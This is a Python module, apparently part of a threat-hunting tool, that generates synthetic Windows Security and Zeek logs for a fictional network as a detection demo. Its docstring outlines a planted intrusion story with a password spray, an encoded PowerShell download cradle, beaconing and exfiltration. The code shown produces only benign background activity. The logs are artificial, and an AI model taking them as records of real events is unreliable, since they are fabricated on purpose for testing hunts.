"""The demo: a deterministic synthetic incident, and a runner that hunts it.

:func:`generate` writes a week of a small Windows network (``corp.local``) as an analyst would get it:
the Security events of every Windows host as EVTX-rendered JSON lines (``windows/<HOST>.jsonl``, the
shape the Rust ``evtx`` crate renders) and the network sensor's Zeek ``conn.log`` and ``dns.log`` (JSON).
Under plenty of benign background sits one classic story: a password spray from the internet against the
RDP server SRV01, a successful logon, discovery commands and an encoded PowerShell download cradle in that
logon session, a beaconing implant and one hour of exfiltration. The ground truth is returned and written
to ``truth.json`` (beside the evidence folders, not in them).

:func:`run` generates into ``<out>/data``, ingests into a LocalStore at ``<out>/store``, runs the catalogue
hunts that uncover the story (from the data alone) and writes ``<out>/report.html``, ``<out>/report.md``
and ``<out>/findings.json``.

Everything random comes from one ``random.Random(seed)``: the same seed gives byte-identical files.
"""

from __future__ import annotations

import base64
import json
import math
import random
import re
import time
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

from huntbook._types import PathLike
from huntbook.errors import StoreError
from huntbook.investigations import traffic_anomalies

if TYPE_CHECKING:
    import pandas as pd

__all__ = [
    "ACCOUNTS",
    "HOSTS",
    "START",
    "Account",
    "Host",
    "decode_powershell",
    "generate",
    "run",
]

START = datetime(2026, 10, 5, tzinfo=UTC)  # a Monday
DOMAIN = "corp.local"
NETBIOS = "CORP"
DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"

# The story's cast is fixed; its timings, ids and sizes are drawn from the seed.
ATTACKER_IP = "203.0.113.66"
ATTACKER_DOMAIN = "cdn-update-check.com"
VICTIM_HOST = "SRV01"
VICTIM_USER = "jsmith"


@dataclass(frozen=True)
class Host:
    """A host of corp.local with its stable address (``user``: a workstation's usual user)."""

    name: str
    ip: str
    role: str  # dc | server | workstation | sensor
    user: str | None = None

    @property
    def fqdn(self) -> str:
        return f"{self.name}.{DOMAIN}"


@dataclass(frozen=True)
class Account:
    """A domain account."""

    name: str
    full_name: str
    rid: int
    admin: bool = False

    @property
    def sid(self) -> str:
        return f"{DOMAIN_SID}-{self.rid}"


HOSTS: tuple[Host, ...] = (
    Host("DC01", "10.10.0.10", "dc"),
    Host("SRV01", "10.10.0.20", "server"),
    Host("WS01", "10.10.1.101", "workstation", "mjones"),
    Host("WS02", "10.10.1.102", "workstation", "agarcia"),
    Host("WS03", "10.10.1.103", "workstation", "jsmith"),
    Host("WS04", "10.10.1.104", "workstation", "lchen"),
    Host("WS05", "10.10.1.105", "workstation", "pkumar"),
    Host("WS06", "10.10.1.106", "workstation", "swilliams"),
    Host("SENSOR01", "10.10.0.5", "sensor"),  # the Zeek sensor on the core switch's span port
)
_PEOPLE = (
    ("jsmith", "John Smith"),
    ("mjones", "Maria Jones"),
    ("agarcia", "Ana Garcia"),
    ("lchen", "Li Chen"),
    ("pkumar", "Priya Kumar"),
    ("swilliams", "Sam Williams"),
    ("bnguyen", "Bao Nguyen"),
    ("kbrown", "Kate Brown"),
    ("dmiller", "David Miller"),
    ("ewilson", "Emma Wilson"),
    ("rmoore", "Ryan Moore"),
    ("ttaylor", "Tom Taylor"),
    ("canderson", "Chloe Anderson"),
    ("jthomas", "Jamal Thomas"),
    ("hwhite", "Hannah White"),
    ("nmartin", "Noah Martin"),
)
ACCOUNTS: tuple[Account, ...] = (
    *(Account(name, full, 1105 + i) for i, (name, full) in enumerate(_PEOPLE)),
    Account("adm_mjones", "Maria Jones (admin)", 1201, admin=True),
    Account("adm_lchen", "Li Chen (admin)", 1202, admin=True),
    Account("svc_backup", "Backup service", 1301),
    Account("svc_sql", "SQL Server service", 1302),
)
_ACCOUNT = {a.name: a for a in ACCOUNTS}
_HOST = {h.name: h for h in HOSTS}
_WINDOWS = tuple(h for h in HOSTS if h.role != "sensor")
_MACHINE_RID = {h.name: 1000 + i for i, h in enumerate(HOSTS)}
_ROAMING = tuple(_ACCOUNT[n] for n, _ in _PEOPLE if n not in {h.user for h in HOSTS})  # laptops on the VPN
_VPN_IP = {a.name: f"10.10.8.{20 + i}" for i, a in enumerate(_ROAMING)}
_ADMIN_ON = {"WS01": "adm_mjones", "WS04": "adm_lchen"}  # workstation -> the admin account used there
_DC_IP = _HOST["DC01"].ip
_SRV_IP = _HOST["SRV01"].ip

# Benign internet: made-up names under the reserved example.* domains, documentation-range addresses.
_SITES: tuple[tuple[str, str, float], ...] = (
    ("mail.example.com", "198.51.100.10", 9.0),
    ("teams.example.net", "198.51.100.20", 8.0),
    ("login.example.org", "198.51.100.30", 6.0),
    ("cdn.example.net", "198.51.100.40", 7.0),
    ("static.example.net", "198.51.100.41", 5.0),
    ("docs.example.com", "198.51.100.50", 4.0),
    ("storage.example.net", "198.51.100.60", 4.0),
    ("search.example.com", "192.0.2.10", 5.0),
    ("news.example.org", "192.0.2.20", 2.0),
    ("weather.example.com", "192.0.2.21", 1.0),
    ("crm.example.com", "192.0.2.30", 2.0),
    ("hr-portal.example.com", "192.0.2.31", 0.7),
    ("payroll.example.com", "192.0.2.32", 0.3),
    ("updates.example.net", "192.0.2.40", 1.5),
    ("telemetry.example.net", "192.0.2.41", 3.0),
    ("ocsp.example.org", "192.0.2.50", 2.0),
    ("fonts.example.net", "192.0.2.51", 1.5),
    ("video.example.com", "203.0.113.10", 1.0),
    ("maps.example.org", "203.0.113.11", 0.5),
    ("wiki.example.org", "203.0.113.12", 1.0),
    ("travel.example.org", "203.0.113.20", 0.3),
    ("api.example.com", "203.0.113.30", 2.0),
    ("analytics.example.com", "203.0.113.31", 2.0),
    ("partner-portal.example.org", "203.0.113.40", 0.4),
)
_SITE_WEIGHTS = tuple(w for _, _, w in _SITES)
_MACHINE_SITES = tuple(s for s in _SITES if s[0].split(".")[0] in ("updates", "telemetry", "ocsp"))

# How busy people are by hour of a working day (0..1): office hours with a lunch dip.
_WORKDAY = (0, 0, 0, 0, 0, 0, 0.05, 0.3, 0.8, 1, 1, 0.9, 0.5, 0.8, 1, 0.9, 0.8, 0.5, 0.2, 0.1, 0.05, 0, 0, 0)

_SEC = 1_000_000  # times are integer microseconds since the epoch
_HOUR = 3600 * _SEC
_DAY = 24 * _HOUR

# ---------------------------------------------------------------------------------------------------------
# Windows Security events

_SYSTEM_SID = "S-1-5-18"
_NULL_SID = "S-1-0-0"
_XMLNS = {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}
_PROVIDER = {
    "#attributes": {
        "Name": "Microsoft-Windows-Security-Auditing",
        "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D",
    }
}
_META = {  # event id -> (Version, Task, Keywords)
    4624: (2, 12544, "0x8020000000000000"),
    4625: (0, 12544, "0x8010000000000000"),
    4634: (0, 12545, "0x8020000000000000"),
    4672: (0, 12548, "0x8020000000000000"),
    4688: (2, 13312, "0x8020000000000000"),
}
_SYSTEM_PRIVILEGES = (
    "SeAssignPrimaryTokenPrivilege SeTcbPrivilege SeSecurityPrivilege SeTakeOwnershipPrivilege "
    "SeLoadDriverPrivilege SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege SeAuditPrivilege "
    "SeSystemEnvironmentPrivilege SeImpersonatePrivilege SeDelegateSessionUserImpersonatePrivilege"
).split()
_ADMIN_PRIVILEGES = [
    p for p in _SYSTEM_PRIVILEGES if p not in ("SeAssignPrimaryTokenPrivilege", "SeTcbPrivilege")
]

_S32 = "C:\\Windows\\System32\\"
_SERVICES = _S32 + "services.exe"
_SVCHOST = _S32 + "svchost.exe"
_WINLOGON = _S32 + "winlogon.exe"
_USERINIT = _S32 + "userinit.exe"
_EXPLORER = "C:\\Windows\\explorer.exe"
_CMD = _S32 + "cmd.exe"
_POWERSHELL = _S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
_DEFENDER = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25080.5-0\\"
_OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
_CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
_EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
_ACROBAT = "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe"
_INVENTORY = "C:\\Program Files\\CorpIT\\InventoryAgent\\InvAgent.exe"
_RESIDENT = {  # long-running processes: key -> image
    "lsass": _S32 + "lsass.exe",
    "services": _SERVICES,
    "schedule": _SVCHOST,
    "dcom": _SVCHOST,
    "defender": _DEFENDER + "MsMpEng.exe",
    "search": _S32 + "SearchIndexer.exe",
    "winlogon": _WINLOGON,
}

# What SYSTEM starts all day long: (weight, parent key, image, command line).
_SYSTEM_PROCESSES = (
    (2, "services", _SVCHOST, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
    (1, "services", _SVCHOST, "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p"),
    (4, "schedule", _S32 + "taskhostw.exe", "taskhostw.exe"),
    (
        3,
        "dcom",
        _S32 + "backgroundTaskHost.exe",
        "backgroundTaskHost.exe -ServerName:BackgroundTaskHost.WebAccountProvider",
    ),
    (4, "dcom", _S32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"),
    (
        1,
        "defender",
        _DEFENDER + "MpCmdRun.exe",
        "MpCmdRun.exe SignatureUpdate -ScheduleJob -RestrictPrivileges",
    ),
    (
        3,
        "search",
        _S32 + "SearchProtocolHost.exe",
        "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe1_",
    ),
    (2, "schedule", _S32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
    (1, "services", _S32 + "sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe"),
    (
        0.5,
        "schedule",
        _S32 + "CompatTelRunner.exe",
        "compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
    ),
    (
        3,
        "dcom",
        _S32 + "dllhost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
    ),
    (0.5, "dcom", _S32 + "wuauclt.exe", '"C:\\Windows\\system32\\wuauclt.exe" /RunHandlerComServer'),
    (1, "dcom", _S32 + "MoUsoCoreWorker.exe", "C:\\Windows\\System32\\mousocoreworker.exe -Embedding"),
    (0.3, "schedule", _S32 + "gpupdate.exe", "gpupdate.exe /target:computer"),
)
_SYSTEM_WEIGHTS = tuple(p[0] for p in _SYSTEM_PROCESSES)

# What people start from explorer.exe: (weight, image, command line). Fields: {image}, {user},
# {doc}, {share}, {n}. _CHILDREN: what some of them start in turn (image, command line, up to how many).
_USER_APPS = (
    (6, _CHROME, '"{image}"'),
    (3, _EDGE, '"{image}" --single-argument https://intranet.corp.local/'),
    (4, _OFFICE + "EXCEL.EXE", '"{image}" "\\\\SRV01\\{share}\\{doc}.xlsx"'),
    (4, _OFFICE + "WINWORD.EXE", '"{image}" /n "C:\\Users\\{user}\\Documents\\{doc}.docx"'),
    (1, _OFFICE + "POWERPNT.EXE", '"{image}" "C:\\Users\\{user}\\Desktop\\{doc}.pptx"'),
    (2, _S32 + "notepad.exe", '"{image}" C:\\Users\\{user}\\Desktop\\notes.txt'),
    (2, _ACROBAT, '"{image}" "C:\\Users\\{user}\\Downloads\\invoice-{n}.pdf"'),
    (2, _S32 + "SnippingTool.exe", '"{image}"'),
    (1, _S32 + "mspaint.exe", '"{image}"'),
    (1, _S32 + "calc.exe", '"{image}"'),
    (1, _CMD, '"{image}"'),
    (1, _S32 + "rundll32.exe", '"{image}" C:\\Windows\\system32\\shell32.dll,Control_RunDLL'),
)
_USER_WEIGHTS = tuple(a[0] for a in _USER_APPS)
_CHILDREN = {
    _CHROME: (_CHROME, '"{image}" --type=renderer --lang=en-US --renderer-client-id={n} --time-ticks={n}', 3),
    _CMD: (_S32 + "ipconfig.exe", "ipconfig  /all", 1),
}
_ADMIN_TOOLS = (
    (_S32 + "ServerManager.exe", '"C:\\Windows\\system32\\ServerManager.exe"'),
    (_S32 + "mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\dsa.msc"'),
    (_S32 + "mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\eventvwr.msc"'),
    (_POWERSHELL, f'"{_POWERSHELL}"'),
    (_S32 + "taskmgr.exe", '"C:\\Windows\\system32\\taskmgr.exe" /4'),
)
_DOCS = ("Q3-budget", "board-minutes", "roadmap-2027", "travel-policy", "vendor-contract", "offsite", "kpis")
_SHARES = ("Finance", "HR", "Projects", "Sales", "IT")


def _iso(us: int) -> str:
    seconds, frac = divmod(us, _SEC)
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds)) + f".{frac:06d}Z"


def decode_powershell(encoded: str) -> str:
    """Decode a PowerShell ``-EncodedCommand`` argument (base64 of UTF-16LE)."""
    text = encoded.strip()
    return base64.b64decode(text + "=" * (-len(text) % 4), validate=True).decode("utf-16-le")


def _encode_powershell(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


@dataclass(frozen=True)
class _Who:
    """Who acts: an account in a logon session."""

    name: str
    sid: str
    logon_id: str
    admin: bool = False
    domain: str = NETBIOS


_NOBODY = _Who("-", _NULL_SID, "0x0", domain="-")


@dataclass
class _HostState:
    host: Host
    pids: dict[str, int]  # the long-running _RESIDENT
    next_logon: int
    events: list[tuple[int, int, int, dict[str, Any], str | None]] = field(default_factory=list)

    @property
    def system(self) -> _Who:
        return _Who(f"{self.host.name}$", _SYSTEM_SID, "0x3e7")

    def parent(self, key: str) -> tuple[str, int]:
        return _RESIDENT[key], self.pids[key]


# ---------------------------------------------------------------------------------------------------------
# The generator


class _Generator:
    def __init__(self, rng: random.Random, start_us: int, days: int, scale: float) -> None:
        self.r = rng
        self.start = start_us
        self.days = days
        self.scale = scale
        self.seq = 0  # creation order breaks ties between records of the same microsecond
        self.conn: list[tuple[int, int, dict[str, Any]]] = []
        self.dns: list[tuple[int, int, dict[str, Any]]] = []
        self.hosts = {
            h.name: _HostState(
                h, {k: rng.randrange(500, 9000, 4) for k in _RESIDENT}, rng.randint(0x30000, 0x90000)
            )
            for h in _WINDOWS
        }

    # -- records -------------------------------------------------------------------------------------------

    def _guid(self) -> str:
        b = self.r.getrandbits(128).to_bytes(16, "big").hex().upper()
        return f"{b[:8]}-{b[8:12]}-{b[12:16]}-{b[16:20]}-{b[20:]}"

    def _event(self, host: str, us: int, event_id: int, data: dict[str, Any]) -> None:
        activity = self._guid() if event_id in (4624, 4625, 4672) else None
        self.seq += 1
        self.hosts[host].events.append((us, self.seq, event_id, data, activity))

    def logon(
        self, host: str, us: int, who: Account | _Who, logon_type: int, ip: str = "", workstation: str = "-"
    ) -> str:
        """A 4624 (with a 4672 for SYSTEM and admins); returns the new logon id.

        The details follow the logon type: 3 is a network logon (Kerberos from inside, NTLM from
        outside) from ``ip``; 4 and 5 are batch and service logons by services.exe; 2, 7 and 10 are
        interactive, unlock and RDP logons by winlogon.exe."""
        state, r = self.hosts[host], self.r
        if who.sid == _SYSTEM_SID:
            target = _Who("SYSTEM", _SYSTEM_SID, "0x3e7", domain="NT AUTHORITY")
        else:
            state.next_logon += r.randint(0x200, 0x4000)
            target = _Who(who.name, who.sid, f"0x{state.next_logon:x}", who.admin)
        port = "-"
        if logon_type == 3:
            subject, process = _NOBODY, ("-", 0)
            package, logon_process = ("Kerberos", "Kerberos") if _internal(ip) else ("NTLM", "NtLmSsp ")
            port = str(r.randint(49152, 65535))
        else:
            subject, package = state.system, "Negotiate"
            logon_process = "Advapi  " if logon_type in (4, 5) else "User32 "
            process = state.parent("services" if logon_type in (4, 5) else "winlogon")
            if logon_type in (2, 7, 10):
                ip, port = ip or "127.0.0.1", "0"
        elevated = target.sid == _SYSTEM_SID or target.admin
        data = {
            **_subject(subject),
            **_target(target),
            "LogonType": logon_type,
            "LogonProcessName": logon_process,
            "AuthenticationPackageName": package,
            "WorkstationName": workstation,
            "LogonGuid": self._guid() if package == "Kerberos" else "00000000-0000-0000-0000-000000000000",
            "TransmittedServices": "-",
            "LmPackageName": "NTLM V2" if package == "NTLM" else "-",
            "KeyLength": 128 if package == "NTLM" else 0,
            "ProcessId": f"0x{process[1]:x}",
            "ProcessName": process[0],
            "IpAddress": ip or "-",
            "IpPort": port,
            "ImpersonationLevel": "%%1833",
            "RestrictedAdminMode": "%%1843" if logon_type == 10 else "-",
            "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-",
            "VirtualAccount": "%%1843",
            "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842" if elevated else "%%1843",
        }
        self._event(host, us, 4624, data)
        if elevated:
            privileges = _SYSTEM_PRIVILEGES if target.sid == _SYSTEM_SID else _ADMIN_PRIVILEGES
            self._event(host, us, 4672, {**_subject(target), "PrivilegeList": "\r\n\t\t\t".join(privileges)})
        return target.logon_id

    def logoff(self, host: str, us: int, who: Account | _Who, logon_id: str, logon_type: int) -> None:
        """A 4634."""
        target = _Who(who.name, who.sid, logon_id)
        self._event(host, us, 4634, {**_target(target), "LogonType": logon_type})

    def failed_logon(
        self, host: str, us: int, name: str, logon_type: int, ip: str = "", workstation: str = "-"
    ) -> None:
        """A 4625: a wrong password for an existing account, an unknown user name otherwise."""
        state = self.hosts[host]
        network = logon_type == 3
        data = {
            **_subject(_NOBODY if network else state.system),
            "TargetUserSid": _NULL_SID,
            "TargetUserName": name,
            "TargetDomainName": NETBIOS,
            "Status": "0xc000006d",
            "FailureReason": "%%2313",
            "SubStatus": "0xc000006a" if name in _ACCOUNT else "0xc0000064",
            "LogonType": logon_type,
            "LogonProcessName": "NtLmSsp " if network else "User32 ",
            "AuthenticationPackageName": "NTLM" if network else "Negotiate",
            "WorkstationName": workstation,
            "TransmittedServices": "-",
            "LmPackageName": "-",
            "KeyLength": 0,
            "ProcessId": "0x0" if network else f"0x{state.pids['winlogon']:x}",
            "ProcessName": "-" if network else _WINLOGON,
            "IpAddress": ip or ("-" if network else "127.0.0.1"),
            "IpPort": str(self.r.randint(49152, 65535)) if network else "0",
        }
        self._event(host, us, 4625, data)

    def process(
        self,
        host: str,
        us: int,
        who: _Who,
        image: str,
        command_line: str,
        parent: tuple[str, int],
        target: _Who | None = None,
    ) -> int:
        """A 4688 (``target``: the account a process is created for, as winlogon does); returns the pid."""
        pid = self.r.randrange(0x100, 0x3000, 4)
        owner = target or who  # whose token the new process gets
        if owner.sid == _SYSTEM_SID:
            elevation, label = "%%1936", "S-1-16-16384"
        elif owner.admin:
            elevation, label = "%%1937", "S-1-16-12288"
        else:  # a standard user has one, unsplit, token
            elevation, label = "%%1936", "S-1-16-8192"
        data = {
            **_subject(who),
            "NewProcessId": f"0x{pid:x}",
            "NewProcessName": image,
            "TokenElevationType": elevation,
            "ProcessId": f"0x{parent[1]:x}",
            "CommandLine": command_line,
            **_target(target or _NOBODY),
            "ParentProcessName": parent[0],
            "MandatoryLabel": label,
        }
        self._event(host, us, 4688, data)
        return pid

    def connection(
        self,
        us: int,
        src: str,
        dst: str,
        port: int,
        service: str | None,
        duration: float,
        sent: int,
        received: int,
        *,
        proto: str = "tcp",
        uid: str | None = None,
        sport: int | None = None,
    ) -> None:
        """A Zeek conn.log record."""
        tcp = proto == "tcp"
        orig_pkts, resp_pkts = sent // 1380 + (4 if tcp else 1), received // 1380 + (3 if tcp else 1)
        header = 40 if tcp else 28
        record: dict[str, Any] = {
            "ts": round(us / _SEC, 6),
            "uid": uid or self._uid(),
            "id.orig_h": src,
            "id.orig_p": sport or self.r.randint(49152, 65535),
            "id.resp_h": dst,
            "id.resp_p": port,
            "proto": proto,
            **({"service": service} if service else {}),
            "duration": round(duration, 6),
            "orig_bytes": sent,
            "resp_bytes": received,
            "conn_state": "SF",
            "local_orig": _internal(src),
            "local_resp": _internal(dst),
            "missed_bytes": 0,
            "history": "ShADadFf" if tcp else "Dd",
            "orig_pkts": orig_pkts,
            "orig_ip_bytes": sent + header * orig_pkts,
            "resp_pkts": resp_pkts,
            "resp_ip_bytes": received + header * resp_pkts,
        }
        self.seq += 1
        self.conn.append((us, self.seq, record))

    def _uid(self) -> str:
        return "C" + "".join(
            self.r.choices("0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", k=17)
        )

    def lookup(self, us: int, src: str, query: str, answer: str | None, ttl: float = 300.0) -> None:
        """A DNS query to DC01 and its answer (NXDOMAIN when None): a dns.log and a conn.log record."""
        r = self.r
        uid, sport, rtt = self._uid(), r.randint(49152, 65535), round(r.uniform(0.0003, 0.03), 6)
        srv = query.startswith("_")
        record: dict[str, Any] = {
            "ts": round(us / _SEC, 6),
            "uid": uid,
            "id.orig_h": src,
            "id.orig_p": sport,
            "id.resp_h": _DC_IP,
            "id.resp_p": 53,
            "proto": "udp",
            "trans_id": r.randint(1, 65535),
            "rtt": rtt,
            "query": query,
            "qclass": 1,
            "qclass_name": "C_INTERNET",
            "qtype": 33 if srv else 1,
            "qtype_name": "SRV" if srv else "A",
            "rcode": 0 if answer else 3,
            "rcode_name": "NOERROR" if answer else "NXDOMAIN",
            "AA": query.endswith("." + DOMAIN),
            "TC": False,
            "RD": True,
            "RA": True,
            "Z": 0,
            **({"answers": [answer], "TTLs": [ttl]} if answer else {}),
            "rejected": False,
        }
        self.seq += 1
        self.dns.append((us, self.seq, record))
        size = 30 + len(query)
        received = size + (16 + len(answer) if answer else 0)
        self.connection(us, src, _DC_IP, 53, "dns", rtt, size, received, proto="udp", uid=uid, sport=sport)

    # -- randomness ----------------------------------------------------------------------------------------

    def _poisson(self, lam: float) -> int:
        if lam > 30:
            return max(0, round(self.r.gauss(lam, math.sqrt(lam))))
        limit, k, p = math.exp(-lam), 0, self.r.random()
        while p > limit:
            k, p = k + 1, p * self.r.random()
        return k

    def _times(self, t0: int, t1: int, rate: float) -> list[int]:
        """Sorted random times in [t0, t1), a Poisson number of them with mean ``rate``."""
        return sorted(self.r.randrange(t0, max(t0 + 1, t1)) for _ in range(self._poisson(rate)))

    def _seconds(self, low: float, high: float) -> int:
        """A random duration between ``low`` and ``high`` seconds, in microseconds."""
        return self.r.randint(int(low * _SEC), int(high * _SEC))

    def _size(self, median: float, sigma: float, cap: float = 3e8) -> int:
        """A log-normal byte count."""
        return int(min(cap, median * math.exp(self.r.gauss(0, sigma))))

    # -- background ----------------------------------------------------------------------------------------

    def background(self) -> None:
        for day in range(self.days):
            day_us = self.start + day * _DAY
            workday = time.gmtime(day_us // _SEC).tm_wday < 5
            for host in _WINDOWS:
                self._system_day(host, day_us, workday)
                if host.role == "workstation":
                    self._workstation_day(host, day_us, workday)
            if workday:
                for account in _ROAMING:
                    self._roaming_day(account, day_us)
            self._service_accounts(day_us)

    def _system_day(self, host: Host, day_us: int, workday: bool) -> None:
        """SYSTEM's processes and service logons, the machine account at the DC, update checks."""
        r, state = self.r, self.hosts[host.name]
        system = state.system
        machine = _Who(f"{host.name}$", f"{DOMAIN_SID}-{_MACHINE_RID[host.name]}", "0x0")
        rate = {"dc": 9.0, "server": 8.0, "workstation": 7.0}[host.role] * self.scale
        for hour in range(24):
            h0, h1 = day_us + hour * _HOUR, day_us + (hour + 1) * _HOUR
            busy = 1.0 + (_WORKDAY[hour] if workday else 0.2)
            for us in self._times(h0, h1, rate * busy):
                _, parent, image, command_line = r.choices(_SYSTEM_PROCESSES, _SYSTEM_WEIGHTS)[0]
                self.process(host.name, us, system, image, command_line, state.parent(parent))
            if host.role != "dc":  # the machine account renews its tickets
                for us in self._times(h0, h1, 1.2 * self.scale):
                    self._network_logon("DC01", us, machine, host.ip, 88)
            if r.random() < 0.3:  # a service starts
                self.logon(host.name, r.randrange(h0, h1), system, 5)
            for us in self._times(h0, h1, 0.8 * self.scale):
                self._web(us, host.ip, r.choice(_MACHINE_SITES), small=True)
        # the IT inventory agent's daily script: a benign encoded PowerShell
        us = day_us + r.randrange(10 * _HOUR, 11 * _HOUR)
        agent = self.process(
            host.name, us, system, _INVENTORY, f'"{_INVENTORY}" --collect', state.parent("services")
        )
        script = "Get-CimInstance Win32_OperatingSystem | Select-Object CSName,Caption,LastBootUpTime"
        command_line = f"powershell.exe -NoLogo -NonInteractive -EncodedCommand {_encode_powershell(script)}"
        self.process(
            host.name, us + r.randint(1, 3) * _SEC, system, _POWERSHELL, command_line, (_INVENTORY, agent)
        )

    def _network_logon(
        self, host: str, us: int, who: Account | _Who, src: str, port: int, hold: int = 0
    ) -> str:
        """A type-3 logon at ``host`` from ``src`` (4624, later 4634) and its connection."""
        r = self.r
        logon_id = self.logon(host, us, who, 3, src)
        hold = hold or r.randint(1, 30) * _SEC
        self.logoff(host, us + hold, who, logon_id, 3)
        service = {88: "krb_tcp", 445: "smb", 3389: "rdp"}.get(port)
        sent, received = self._size(2500, 0.6), self._size(3000, 0.6)
        self.connection(
            us - r.randint(1000, 50000), src, _HOST[host].ip, port, service, hold / _SEC, sent, received
        )
        return logon_id

    def _web(self, us: int, src: str, site: tuple[str, str, float], small: bool = False) -> None:
        """An HTTPS session to a site, with a DNS lookup first half the time (the rest is cached)."""
        r = self.r
        if r.random() < 0.5:
            self.lookup(
                us - r.randint(5_000, 200_000), src, site[0], site[1], ttl=float(r.choice((60, 300, 3600)))
            )
        sent = self._size(900 if small else 2200, 0.7)
        received = self._size(4000 if small else 45000, 1.0 if small else 1.6)
        self.connection(us, src, site[1], 443, "ssl", r.expovariate(1 / (2 if small else 20)), sent, received)

    def _workstation_day(self, host: Host, day_us: int, workday: bool) -> None:
        """A usual user's day: logon, apps, browsing, file shares, unlocks, maybe admin work, logoff."""
        r = self.r
        account = _ACCOUNT[host.user or ""]
        if not workday and r.random() > 0.15:
            return
        if workday:
            t0 = day_us + int(r.gauss(8.2, 0.5) * _HOUR)
            t1 = day_us + int(r.gauss(17.3, 0.7) * _HOUR)
        else:
            t0 = day_us + int(r.uniform(10, 15) * _HOUR)
            t1 = t0 + int(r.uniform(0.5, 2.5) * _HOUR)
        if r.random() < 0.06:  # a typo first
            self.failed_logon(host.name, t0 - r.randint(5, 20) * _SEC, account.name, 2, workstation=host.name)
        logon_id = self.logon(host.name, t0, account, 2, workstation=host.name)
        self._network_logon("DC01", t0 + r.randint(1, 3) * _SEC, account, host.ip, 88)
        self.lookup(t0 + 3 * _SEC, host.ip, "_ldap._tcp.dc._msdcs.corp.local", "dc01.corp.local", ttl=600.0)
        if r.random() < 0.5:
            self.lookup(t0 + 4 * _SEC, host.ip, "wpad.corp.local", None)
        user = _Who(account.name, account.sid, logon_id)
        explorer = (_EXPLORER, self._session_start(host.name, t0 + 2 * _SEC, user))
        onedrive = f"C:\\Users\\{account.name}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
        self.process(host.name, t0 + 9 * _SEC, user, onedrive, f'"{onedrive}" /background', explorer)
        self.process(
            host.name, t0 + 15 * _SEC, user, _OFFICE + "OUTLOOK.EXE", f'"{_OFFICE}OUTLOOK.EXE"', explorer
        )
        for hour in range((t0 - day_us) // _HOUR, (t1 - day_us) // _HOUR + 1):
            h0 = max(t0 + 20 * _SEC, day_us + hour * _HOUR)
            h1 = min(t1, day_us + (hour + 1) * _HOUR)
            if h1 <= h0:
                continue
            active = (_WORKDAY[hour] if workday else 0.5) * (h1 - h0) / _HOUR
            for us in self._times(h0, h1, 12 * active * self.scale):
                self._user_app(host.name, us, user, explorer)
            for us in self._times(h0, h1, 90 * active * self.scale):
                self._web(us, host.ip, r.choices(_SITES, _SITE_WEIGHTS)[0])
            for us in self._times(h0, h1, 2 * active * self.scale):
                self._file_share(us, account, host.ip)
            if r.random() < 0.4 * active:  # back from a break: unlock
                us = r.randrange(h0, h1)
                unlock = self.logon(host.name, us, account, 7, workstation=host.name)
                self.logoff(host.name, us + r.randint(1, 4) * _SEC, account, unlock, 7)
        admin = _ADMIN_ON.get(host.name)
        if admin and workday and r.random() < 0.6:
            us = r.randrange(t0 + _HOUR, max(t0 + _HOUR + 1, t1 - _HOUR))
            self._admin_rdp(host, _ACCOUNT[admin], us, user, explorer)
        self.logoff(host.name, t1, account, logon_id, 2)

    def _session_start(self, host: str, us: int, user: _Who) -> int:
        """userinit.exe (winlogon creates it for the new logon) starts explorer.exe; returns its pid."""
        state = self.hosts[host]
        userinit = self.process(host, us, state.system, _USERINIT, _USERINIT, state.parent("winlogon"), user)
        return self.process(
            host, us + 700_000, user, _EXPLORER, "C:\\Windows\\Explorer.EXE", (_USERINIT, userinit)
        )

    def _user_app(self, host: str, us: int, user: _Who, explorer: tuple[str, int]) -> None:
        r = self.r
        _, image, template = r.choices(_USER_APPS, _USER_WEIGHTS)[0]
        fields = {
            "user": user.name,
            "doc": r.choice(_DOCS),
            "share": r.choice(_SHARES),
            "n": r.randint(5, 9999),
        }
        pid = self.process(host, us, user, image, template.format(image=image, **fields), explorer)
        if image in _CHILDREN:
            child, child_template, most = _CHILDREN[image]
            for i in range(1, r.randint(1, most) + 1):
                line = child_template.format(image=child, n=r.randint(5, 9999))
                self.process(host, us + i * r.randint(200_000, 2 * _SEC), user, child, line, (image, pid))

    def _file_share(self, us: int, account: Account, src: str) -> None:
        """A visit to a share on SRV01: name lookup, network logon, SMB session."""
        r = self.r
        self.lookup(us - 20_000, src, "srv01.corp.local", _SRV_IP, ttl=1200.0)
        self._network_logon("SRV01", us, account, src, 445, hold=r.randint(60, 3600) * _SEC)
        sent, received = self._size(20000, 1.5), self._size(400000, 1.8)
        self.connection(us + 50_000, src, _SRV_IP, 445, "smb", r.uniform(1, 600), sent, received)

